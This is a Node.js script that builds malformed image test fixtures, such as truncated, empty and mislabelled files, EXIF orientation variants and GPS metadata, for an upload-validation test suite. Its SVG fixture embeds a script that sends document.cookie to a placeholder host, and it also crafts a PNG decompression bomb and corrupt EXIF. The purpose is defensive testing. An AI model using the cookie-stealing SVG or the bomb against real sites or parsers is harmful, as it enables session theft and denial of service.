#!/usr/bin/env node
/**
 * Makes the bad-input catalogue's fixtures (tests/fixtures/bad/) from a public-domain portrait, with ImageMagick
 * (Debian's, which has the HEIC/AVIF coders of libheif) and byte-level crafting for what no tool writes on
 * purpose: a decompression bomb, garbage in the EXIF block, EXIF with GPS and a thumbnail.
 * Every file stays small; the 50 MP photo is made at test time (e2e/input-catalogue.spec.ts), not committed.
 * Usage: node scripts/make-bad-fixtures.mjs   (rewrites the files; the output is deterministic for one toolset)
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';

const OUT = 'tests/fixtures/bad';
const PORTRAIT = 'tests/fixtures/photos/C001061.jpg';
const at = (name) => join(OUT, name);
const magick = (...args) => execFileSync('convert', args);

// --- Not images, or not whole images ------------------------------------------------------------------------
writeFileSync(at('empty.jpg'), Buffer.alloc(0));
writeFileSync(at('text-renamed.jpg'), 'These are my notes, not a photo.\n');
magick(PORTRAIT, at('whole.png'));
const png = readFileSync(at('whole.png'));
writeFileSync(at('truncated.png'), png.subarray(0, Math.floor(png.length / 2)));
execFileSync('rm', [at('whole.png')]);
writeFileSync(at('header-only.jpg'), jpegHeadersOnly(readFileSync(PORTRAIT)));
writeFileSync(at('bomb-20000x20000.png'), bombPng(20000, 20000));

// --- Formats ------------------------------------------------------------------------------------------------
magick(PORTRAIT, '-colorspace', 'CMYK', at('cmyk.jpg'));
magick(PORTRAIT, '-depth', '16', `PNG48:${at('rgb16.png')}`);
magick(PORTRAIT, '-colorspace', 'Gray', at('greyscale.jpg'));
// A cut-out on a transparent background, as a background-removal app saves it: the studio backdrop made clear.
magick(PORTRAIT, '-alpha', 'set', '-fuzz', '14%', '-fill', 'none', '-draw', 'color 0,0 floodfill', '-draw', 'color 224,0 floodfill', at('alpha.png'));
magick(PORTRAIT, '-quality', '80', at('photo.webp'));
magick(PORTRAIT, '-quality', '60', at('photo.heic'));
magick(PORTRAIT, '-quality', '60', at('photo.avif'));
magick(PORTRAIT, at('photo.gif'));
magick(PORTRAIT, 'BMP3:' + at('photo.bmp'));
magick(PORTRAIT, '-compress', 'jpeg', at('photo.tiff'));
writeFileSync(at('document.pdf'), pdfWithJpeg(readFileSync(PORTRAIT), 225, 275));
writeFileSync(
  at('script.svg'),
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="400">' +
    '<script>fetch("https://example.invalid/?leak=" + document.cookie)</script>' +
    '<rect width="300" height="400" fill="#88a"/><circle cx="150" cy="160" r="80" fill="#fc9"/></svg>\n',
);
// Olympus ORF: TIFF structure under its own magic (a header is enough to be refused by its signature).
writeFileSync(at('camera.orf'), Buffer.concat([Buffer.from('IIRO\x08\x00\x00\x00', 'latin1'), Buffer.alloc(56)]));

// --- EXIF orientations: pixels stored so that each tag shows the portrait upright ---------------------------
const STORE_FOR_ORIENTATION = {
  1: [],
  2: ['-flop'],
  3: ['-rotate', '180'],
  4: ['-flip'],
  5: ['-transpose'],
  6: ['-rotate', '-90'],
  7: ['-transverse'],
  8: ['-rotate', '90'],
};
for (const [tag, transform] of Object.entries(STORE_FOR_ORIENTATION)) {
  const stored = execFileSync('convert', [PORTRAIT, ...transform, 'jpeg:-']);
  writeFileSync(at(`orientation-${tag}.jpg`), insertApp1(stored, exifOrientation(Number(tag))));
}

// --- Sizes and faces ----------------------------------------------------------------------------------------
magick(PORTRAIT, '-resize', '100x120^', '-gravity', 'center', '-extent', '100x120', at('small-100x120.jpg'));
magick('-size', '6000x300', 'xc:#4c7080', '(', PORTRAIT, '-resize', 'x300', ')', '-gravity', 'center', '-composite', '-quality', '80', at('panorama-6000x300.jpg'));
// The top 70 px hold the backdrop and the top of the head: without them the crown is outside the photo.
magick(PORTRAIT, '-gravity', 'north', '-chop', '0x70', at('crown-cut-off.jpg'));
magick(PORTRAIT, '-background', '#4c7080', '-rotate', '45', at('roll-45.jpg'));

// --- EXIF ---------------------------------------------------------------------------------------------------
const portrait = readFileSync(PORTRAIT);
writeFileSync(at('garbage-exif.jpg'), insertApp1(portrait, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), garbage(2000)])));
writeFileSync(at('gps.jpg'), insertApp1(portrait, exifWithGps(thumbnailOf(PORTRAIT))));

console.log('fixtures written to', OUT);

/** A one-page PDF showing the portrait (a scan sent as PDF); ImageMagick's PDF writer is off by Debian policy. */
function pdfWithJpeg(jpeg, widthPx, heightPx) {
  const content = `q ${widthPx} 0 0 ${heightPx} 0 0 cm /Im0 Do Q`;
  const objects = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${widthPx} ${heightPx}] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>`),
    Buffer.concat([
      Buffer.from(`<< /Type /XObject /Subtype /Image /Width ${widthPx} /Height ${heightPx} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length ${jpeg.length} >>\nstream\n`),
      jpeg,
      Buffer.from('\nendstream'),
    ]),
    Buffer.from(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`),
  ];
  const parts = [Buffer.from('%PDF-1.4\n')];
  const offsets = [];
  let length = parts[0].length;
  objects.forEach((body, i) => {
    offsets.push(length);
    const object = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(object);
    length += object.length;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** SOI, every segment before the scan (tables, frame header), then EOI: a header with no image data. */
function jpegHeadersOnly(jpeg) {
  let i = 2;
  while (i < jpeg.length && !(jpeg[i] === 0xff && jpeg[i + 1] === 0xda)) i += 2 + jpeg.readUInt16BE(i + 2);
  return Buffer.concat([jpeg.subarray(0, i), Buffer.from([0xff, 0xd9])]);
}

function pngChunk(type, data) {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function crc32(bytes) {
  let c = ~0;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

/** A valid PNG header claiming width×height grey pixels, with data for only the first rows: a few hundred bytes. */
function bombPng(width, height) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const ROWS = 4;
  const rows = Buffer.alloc(ROWS * (width + 1), 0x80);
  for (let r = 0; r < ROWS; r++) rows[r * (width + 1)] = 0; // filter type None
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Deterministic noise (a linear congruential generator), so the fixture does not change between runs. */
function garbage(length) {
  const out = Buffer.alloc(length);
  let seed = 12345;
  for (let i = 0; i < length; i++) {
    seed = (seed * 1103515245 + 12345) >>> 0;
    out[i] = seed >>> 24;
  }
  // Start like a TIFF header whose IFD offset points far outside the block.
  out.write('II*\0', 0, 'latin1');
  out.writeUInt32LE(0x7ffffff0, 4);
  return out;
}

/** APP1 right after SOI and the JFIF APP0, where cameras put EXIF. */
function insertApp1(jpeg, payload) {
  const header = Buffer.from([0xff, 0xe1, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  const afterApp0 = jpeg[3] === 0xe0 ? 4 + jpeg.readUInt16BE(4) : 2;
  return Buffer.concat([jpeg.subarray(0, afterApp0), header, payload, jpeg.subarray(afterApp0)]);
}

/** EXIF holding only IFD0's Orientation tag (ImageMagick 6 writes no EXIF into a file that had none). */
function exifOrientation(value) {
  const tiff = Buffer.alloc(8 + 2 + 12 + 4);
  tiff.write('MM\0*', 0, 'latin1');
  tiff.writeUInt32BE(8, 4);
  tiff.writeUInt16BE(1, 8);
  tiff.writeUInt16BE(0x0112, 10); // Orientation
  tiff.writeUInt16BE(3, 12); // SHORT
  tiff.writeUInt32BE(1, 14);
  tiff.writeUInt16BE(value, 18);
  return Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
}

function thumbnailOf(path) {
  return execFileSync('convert', [path, '-resize', '40x50', '-quality', '60', 'jpeg:-']);
}

/**
 * EXIF as a phone writes it (big-endian TIFF): IFD0 with Make, Model and a GPS IFD pointer; the GPS IFD with a
 * latitude and longitude (Tokyo Station); IFD1 with a JPEG thumbnail. Every marker string here must be absent
 * from what the app writes.
 */
function exifWithGps(thumbnail) {
  const entries0 = [];
  const data = [];
  let dataAt = 0;
  const TIFF_HEADER = 8;
  // IFD0: 4 entries; GPS IFD: 4 entries; IFD1: 3 entries. Offsets are computed after the layout below.
  const ifd0At = TIFF_HEADER;
  const ifd0Bytes = 2 + 4 * 12 + 4;
  const gpsAt = ifd0At + ifd0Bytes;
  const gpsBytes = 2 + 4 * 12 + 4;
  const ifd1At = gpsAt + gpsBytes;
  const ifd1Bytes = 2 + 3 * 12 + 4;
  const dataBase = ifd1At + ifd1Bytes;
  const addData = (buffer) => {
    const offset = dataBase + dataAt;
    data.push(buffer);
    dataAt += buffer.length;
    return offset;
  };
  const ascii = (s) => Buffer.from(`${s}\0`, 'latin1');
  const rationals = (pairs) => {
    const b = Buffer.alloc(pairs.length * 8);
    pairs.forEach(([n, d], i) => {
      b.writeUInt32BE(n, i * 8);
      b.writeUInt32BE(d, i * 8 + 4);
    });
    return b;
  };
  const entry = (tag, type, count, valueOrOffset, inline) => {
    const e = Buffer.alloc(12);
    e.writeUInt16BE(tag, 0);
    e.writeUInt16BE(type, 2);
    e.writeUInt32BE(count, 4);
    if (inline) inline.copy(e, 8);
    else e.writeUInt32BE(valueOrOffset, 8);
    return e;
  };
  const ASCII = 2;
  const SHORT = 3;
  const LONG = 4;
  const RATIONAL = 5;
  const make = ascii('GpsLeakCam');
  const model = ascii('Fixture Phone 1');
  entries0.push(entry(0x010f, ASCII, make.length, addData(make)));
  entries0.push(entry(0x0110, ASCII, model.length, addData(model)));
  entries0.push(entry(0x0112, SHORT, 1, 0, Buffer.from([0, 1, 0, 0])));
  entries0.push(entry(0x8825, LONG, 1, gpsAt));
  const latitude = rationals([[35, 1], [40, 1], [4812, 100]]);
  const longitude = rationals([[139, 1], [46, 1], [1992, 100]]);
  const gps = [
    entry(0x0001, ASCII, 2, 0, Buffer.from('N\0\0\0', 'latin1')),
    entry(0x0002, RATIONAL, 3, addData(latitude)),
    entry(0x0003, ASCII, 2, 0, Buffer.from('E\0\0\0', 'latin1')),
    entry(0x0004, RATIONAL, 3, addData(longitude)),
  ];
  const thumbAt = addData(thumbnail);
  const ifd1 = [entry(0x0103, SHORT, 1, 0, Buffer.from([0, 6, 0, 0])), entry(0x0201, LONG, 1, thumbAt), entry(0x0202, LONG, 1, thumbnail.length)];
  const ifd = (items, next) => {
    const count = Buffer.alloc(2);
    count.writeUInt16BE(items.length);
    const nextOffset = Buffer.alloc(4);
    nextOffset.writeUInt32BE(next);
    return Buffer.concat([count, ...items, nextOffset]);
  };
  const tiff = Buffer.concat([
    Buffer.from('MM\0*\0\0\0\x08', 'latin1'),
    ifd(entries0, ifd1At),
    ifd(gps, 0),
    ifd(ifd1, 0),
    ...data,
  ]);
  return Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
}
